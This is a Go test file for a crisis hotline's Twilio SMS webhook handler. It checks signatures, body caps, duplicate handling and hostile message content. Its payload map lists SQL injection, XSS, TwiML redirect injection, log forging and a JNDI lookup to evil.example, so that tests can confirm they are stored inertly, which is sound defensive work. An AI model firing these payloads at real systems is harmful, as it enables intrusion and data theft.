// SPDX-License-Identifier: AGPL-3.0-or-later

package twilio_test

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/lifeline-hotline/lifeline/internal/channel"
	"github.com/lifeline-hotline/lifeline/internal/channel/channeltest"
	"github.com/lifeline-hotline/lifeline/internal/channel/twilio"
)

// The tests of this file go through the real webhook handler, one row or
// more of ../shared/HOSTILE-INPUTS.md each; every subtest name starts with
// the row's id. docs/hostile-inputs.md maps the rows to them. The rows
// TestHostile (adapter_test.go) already covers are not repeated here.

const hostileSID = "SM11112222333344445555666677778888"

// smsForm is a signed-ready incoming SMS with body as its Body.
func smsForm(sid, body string) url.Values {
	return channeltest.TwilioSMSForm(channeltest.TwilioSMS{
		AccountSID: testSID, MessageSID: sid, From: testFrom, To: testNumber, Body: body,
	})
}

type hostileCase struct {
	name       string
	path       string // smsPath if empty
	body       string // a form body, signed over its decoded params
	edit       func(*http.Request)
	want       int
	stored     int
	quarantine int
	check      func(*testing.T, []channel.Event)
}

func runHostile(t *testing.T, tests []hostileCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(MustNewSMS(t, nil))
			path := tt.path
			if path == "" {
				path = smsPath
			}
			req := channeltest.TwilioRequest(testToken, testPublic, path, tt.body)
			if tt.edit != nil {
				tt.edit(req)
			}
			resp := h.Do(req)
			if resp.Code != tt.want {
				t.Errorf("status: got %d, want %d", resp.Code, tt.want)
			}
			body := resp.Body.String()
			channeltest.MustContainNone(t, "response", body, testToken, req.Header.Get(twilio.SignatureHeader), "twilio: ", "panic")
			if resp.Code != http.StatusOK {
				channeltest.MustContainNone(t, "refusal", body, "<Response", "<Message", "<Redirect")
			} else if path == smsPath && body != twimlEmpty {
				t.Errorf("answer %q, want the empty TwiML", body)
			}
			got := h.Recorder.Events()
			if len(got) != tt.stored {
				t.Fatalf("stored %d events, want %d", len(got), tt.stored)
			}
			channeltest.MustBeStorable(t, got)
			if n := h.Quarantine.Len(); n != tt.quarantine {
				t.Errorf("quarantined %d, want %d", n, tt.quarantine)
			}
			if tt.check != nil {
				tt.check(t, got)
			}
			next := channeltest.TwilioRequest(testToken, testPublic, smsPath, smsForm("SM99998888777766665555444433332222", "next").Encode())
			if code := h.Do(next).Code; code != http.StatusOK || len(h.Recorder.Events()) != tt.stored+1 {
				t.Errorf("next valid SMS: status %d, %d events", code, len(h.Recorder.Events()))
			}
		})
	}
}

func textIs(want string) func(*testing.T, []channel.Event) {
	return func(t *testing.T, got []channel.Event) {
		t.Helper()
		if s := got[0].Text.Reveal(); s != want {
			t.Errorf("text: got %q, want %q", s, want)
		}
	}
}

func TestHostileTransportAndAuthentication(t *testing.T) {
	valid := smsForm(hostileSID, "hello").Encode()
	jsonBody := `{"MessageSid":"` + hostileSID + `","Body":"hello"}`
	sum := sha256.Sum256([]byte(jsonBody))
	runHostile(t, []hostileCase{
		{name: "A-06 gzip content encoding refused, not inflated", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }, want: 415},
		{name: "A-07 PUT", body: valid, edit: func(r *http.Request) { r.Method = http.MethodPut }, want: 405},
		{name: "A-07 GET", body: valid, edit: func(r *http.Request) { r.Method = http.MethodGet }, want: 405},
		{name: "A-08 OPTIONS", body: valid, edit: func(r *http.Request) { r.Method = http.MethodOptions }, want: 405},
		{name: "B-08 no X-Twilio-Signature", body: valid, edit: func(r *http.Request) { r.Header.Del(twilio.SignatureHeader) }, want: 401},
		{name: "B-08 no X-Twilio-Signature on the status callback", path: statusPath, body: channeltest.TwilioStatusForm(testSID, hostileSID, testNumber, testFrom, "delivered", "").Encode(),
			edit: func(r *http.Request) { r.Header.Del(twilio.SignatureHeader) }, want: 401},
		{name: "B-10 SMS request replayed to the voice URL", body: valid, edit: func(r *http.Request) { r.URL.Path = "/hooks/sms/" + testName + "/voice" }, want: 401},
		{name: "B-11 signed for http while the public URL is https", body: valid, edit: func(r *http.Request) {
			r.Header.Set(twilio.SignatureHeader, channeltest.SignTwilio(testToken, "http://hotline.example"+smsPath, smsForm(hostileSID, "hello")))
		}, want: 401},
		{name: "B-11 https signature behind a TLS-terminating proxy", body: valid, edit: func(r *http.Request) {
			r.Host, r.URL.Scheme, r.TLS = "127.0.0.1:8080", "http", nil
			r.Header.Set("X-Forwarded-Proto", "http")
		}, want: 200, stored: 1},
		{name: "B-13 signature in the query instead of the header", body: valid, edit: func(r *http.Request) {
			r.URL.RawQuery = "X-Twilio-Signature=" + url.QueryEscape(r.Header.Get(twilio.SignatureHeader))
			r.Header.Del(twilio.SignatureHeader)
		}, want: 401},
		{name: "D-15 JSON body without bodySHA256", body: jsonBody, edit: func(r *http.Request) {
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set(twilio.SignatureHeader, channeltest.SignTwilio(testToken, testPublic+smsPath, nil))
		}, want: 401},
		{name: "D-15 JSON body with a signed bodySHA256 is not an SMS form", body: jsonBody, edit: func(r *http.Request) {
			q := "bodySHA256=" + hex.EncodeToString(sum[:])
			r.URL.RawQuery = q
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set(twilio.SignatureHeader, channeltest.SignTwilio(testToken, testPublic+smsPath+"?"+q, nil))
		}, want: 400, quarantine: 1},
	})
}

// TestHostileBodyCaps is for Twilio's 256 KiB cap.
func TestHostileBodyCaps(t *testing.T) {
	for _, tt := range []struct {
		name    string
		chunked bool
	}{{"A-01 10 MiB form, unsigned", false}, {"A-04 endless chunked form, unsigned", true}} {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(MustNewSMS(t, nil))
			body := &countingReader{r: endlessForm{}}
			req := channeltest.TwilioRequest("", "", smsPath, "")
			req.Body = body
			req.ContentLength = 10 << 20
			if tt.chunked {
				req.ContentLength, req.TransferEncoding = -1, []string{"chunked"}
			}
			if code := h.Do(req).Code; code != 413 && code != 401 {
				t.Errorf("status %d, want 413 or 401", code)
			}
			if body.n > 2*twilio.MaxBody {
				t.Errorf("read %d bytes", body.n)
			}
		})
	}
}

type countingReader struct {
	r interface{ Read([]byte) (int, error) }
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

func (c *countingReader) Close() error { return nil }

type endlessForm struct{}

func (endlessForm) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	return len(p), nil
}

func TestHostileContent(t *testing.T) {
	base := smsForm(hostileSID, "x")
	base.Del("Body")
	cyrillic := strings.Repeat("щ", 1600)
	payloads := map[string][]string{
		"F-01 bidi overrides and isolates":  {"\u202Eevil\u202C", "\u2067مرحبا\u2069 Operator"},
		"F-02 zero-width characters":        {"\u200D\u200C\u2060\uFEFF"},
		"F-04 SQL injection":                {"'); DROP TABLE messages;--", "' OR '1'='1"},
		"F-05 HTML and script":              {"<script>alert(1)</script>", `"><svg onload=alert(1)>`},
		"F-06 TwiML injection":              {"</Message><Redirect>https://evil.example/x</Redirect><Message>", "</Say><Dial>+15555550199</Dial><Say>"},
		"F-08 log forging and terminal ESC": {"line1\r\n2026-06-21 INFO admin login ok", "\u001b[2J\u001b[31mALERT"},
		"F-09 template and format strings":  {"{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n"},
		"C-10 combining-character flood":    {"Z" + strings.Repeat("\u0336", 5000)},
	}
	var tests []hostileCase
	for id, values := range payloads {
		for i, v := range values {
			tests = append(tests, hostileCase{name: fmt.Sprintf("%s #%d as Body", id, i), body: smsForm(hostileSID, v).Encode(), want: 200, stored: 1, check: textIs(v)})
		}
	}
	seg := smsForm(hostileSID, cyrillic)
	seg.Set("NumSegments", "11")
	tests = append(tests,
		hostileCase{name: "C-06 Body of invalid UTF-8 after percent-decoding", body: base.Encode() + "&Body=%FF%FE%C3%28", want: 200, stored: 1, check: textIs("\uFFFD(")},
		hostileCase{name: "C-03 NUL in Body", body: base.Encode() + "&Body=a%00b", want: 200, stored: 1, check: textIs("a\uFFFDb")},
		hostileCase{name: "C-07 malformed percent-encoding in Body", body: base.Encode() + "&Body=%E0%A4%A", want: 400, quarantine: 1},
		hostileCase{name: "C-07 non-hex escape in Body", body: base.Encode() + "&Body=%zz", want: 400, quarantine: 1},
		hostileCase{name: "C-08 overlong UTF-8 for a slash in Body", body: base.Encode() + "&Body=a%C0%AFb", want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].Text.Reveal(); strings.Contains(s, "/") || !utf8.ValidString(s) {
				t.Errorf("overlong slash: %q", s)
			}
		}},
		hostileCase{name: "D-13 Body given twice", body: smsForm(hostileSID, "a").Encode() + "&Body=b", want: 400, quarantine: 1},
		hostileCase{name: "F-12 1600 Cyrillic characters, NumSegments 11", body: seg.Encode(), want: 200, stored: 1, check: textIs(cyrillic)},
		hostileCase{name: "H-11 STOP is stored as the contact's text", body: smsForm(hostileSID, "STOP").Encode() + "&OptOutType=STOP", want: 200, stored: 1, check: textIs("STOP")},
		hostileCase{name: "H-10 From +266696687 (a non-E.164 caller id)", body: strings.Replace(smsForm(hostileSID, "x").Encode(), url.QueryEscape(testFrom), "%2B266696687", 1), want: 200, stored: 1},
	)
	runHostile(t, tests)
}

// TestHostileMediaURLs is G-02 beyond TestHostile: a media URL on our
// account at the API host but with dot segments is not kept, since the
// fetcher and DeleteMedia would send our credentials to where it resolves.
func TestHostileMediaURLs(t *testing.T) {
	prefix := "https://api.twilio.com/2010-04-01/Accounts/" + testSID + "/Messages/MM11112222333344445555666677778888"
	var tests []hostileCase
	for i, u := range []string{
		prefix + "/Media/..",
		prefix + "/Media/ME1/..",
		prefix + "/Media/%2e%2e",
		prefix + "/.",
		prefix + "//Media/ME1",
	} {
		f := smsForm(hostileSID, "photo")
		f.Set("NumMedia", "1")
		f.Set("MediaUrl0", u)
		f.Set("MediaContentType0", "image/jpeg")
		tests = append(tests, hostileCase{name: fmt.Sprintf("G-02 dot segments in a media URL #%d", i), body: f.Encode(), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			// Recorded as arrived and refused, without the URL; the kind
			// still says a photo came.
			if m := got[0].Media; len(m) != 1 || m[0].ProviderID != "" || m[0].Refused != channel.MediaRefusedHost || got[0].Kind != channel.KindPhoto {
				t.Errorf("media %+v, kind %s: want one refused photo without its URL", m, got[0].Kind)
			}
		}})
	}
	ok := smsForm(hostileSID, "photo")
	ok.Set("NumMedia", "1")
	ok.Set("MediaUrl0", prefix+"/Media/ME11112222333344445555666677778888")
	tests = append(tests, hostileCase{name: "G-02 a media URL of the account is kept", body: ok.Encode(), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
		if len(got[0].Media) != 1 {
			t.Errorf("media: %v", got[0].Media)
		}
	}})
	runHostile(t, tests)
}

// TestHostileDuplicatesAndStatus is E-04, E-05 and H-03.
func TestHostileDuplicatesAndStatus(t *testing.T) {
	post := func(h *channeltest.Harness, path, body string, edit func(*http.Request)) (int, string) {
		req := channeltest.TwilioRequest(testToken, testPublic, path, body)
		if edit != nil {
			edit(req)
		}
		rec := h.Do(req)
		return rec.Code, rec.Body.String()
	}
	token := func(v string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set("I-Twilio-Idempotency-Token", v) }
	}
	t.Run("E-04 same idempotency token twice, then another token, same MessageSid", func(t *testing.T) {
		h := channeltest.NewHarness(MustNewSMS(t, nil))
		body := MustFixture(t, "sms_text")
		for _, tok := range []string{"tok-1", "tok-1", "tok-2"} {
			if code, answer := post(h, smsPath, body, token(tok)); code != 200 || answer != twimlEmpty {
				t.Fatalf("got %d %q, want the empty TwiML", code, answer)
			}
		}
		if n := len(h.Recorder.Events()); n != 1 {
			t.Errorf("stored %d, want 1", n)
		}
	})
	t.Run("E-04 concurrent deliveries", func(t *testing.T) {
		h := channeltest.NewHarness(MustNewSMS(t, nil))
		body := MustFixture(t, "sms_text")
		var wg sync.WaitGroup
		for i := range 16 {
			wg.Go(func() {
				if code, _ := post(h, smsPath, body, token(fmt.Sprint(i))); code != 200 {
					t.Errorf("status %d", code)
				}
			})
		}
		wg.Wait()
		if n := len(h.Recorder.Events()); n != 1 {
			t.Errorf("stored %d, want 1", n)
		}
	})
	t.Run("E-05 fallback delivery after the primary was stored", func(t *testing.T) {
		h := channeltest.NewHarness(MustNewSMS(t, nil))
		body := MustFixture(t, "sms_text")
		fallback := body + "&ErrorCode=11200&ErrorUrl=" + url.QueryEscape(testPublic+smsPath)
		for _, b := range []string{body, fallback} {
			if code, _ := post(h, smsPath, b, nil); code != 200 {
				t.Fatalf("status %d", code)
			}
		}
		if n := len(h.Recorder.Events()); n != 1 {
			t.Errorf("stored %d, want 1", n)
		}
	})
	t.Run("H-03 status callbacks are statuses only, answered 204 without TwiML", func(t *testing.T) {
		h := channeltest.NewHarness(MustNewSMS(t, nil))
		for _, f := range []string{"status_delivered", "status_failed_30003"} {
			code, answer := post(h, statusPath, MustFixture(t, f), nil)
			if code != 204 || answer != "" {
				t.Errorf("%s: got %d %q", f, code, answer)
			}
		}
		for _, e := range h.Recorder.Events() {
			if e.Type != channel.EventStatus {
				t.Errorf("status callback stored a %s", e.Type)
			}
		}
	})
}

// TestHostileStoreDown is E-11 for Twilio: a 503 sends Twilio to the
// Fallback URL, whose delivery of the same MessageSid is stored once.
func TestHostileStoreDown(t *testing.T) {
	h := channeltest.NewHarness(MustNewSMS(t, nil))
	body := MustFixture(t, "sms_text")
	h.Recorder.Fail = errors.New("database is down")
	if rec := h.Do(channeltest.TwilioRequest(testToken, testPublic, smsPath, body)); rec.Code != http.StatusServiceUnavailable || strings.Contains(rec.Body.String(), "<Response") {
		t.Errorf("E-11 store down: got %d %q, want 503 without TwiML", rec.Code, rec.Body)
	}
	h.Recorder.Fail = nil
	fallback := body + "&ErrorCode=11200&ErrorUrl=" + url.QueryEscape(testPublic+smsPath)
	if rec := h.Do(channeltest.TwilioRequest(testToken, testPublic, smsPath, fallback)); rec.Code != http.StatusOK {
		t.Errorf("E-11 fallback: status %d", rec.Code)
	}
	if n := len(h.Recorder.Events()); n != 1 {
		t.Errorf("E-11 stored %d, want 1", n)
	}
}
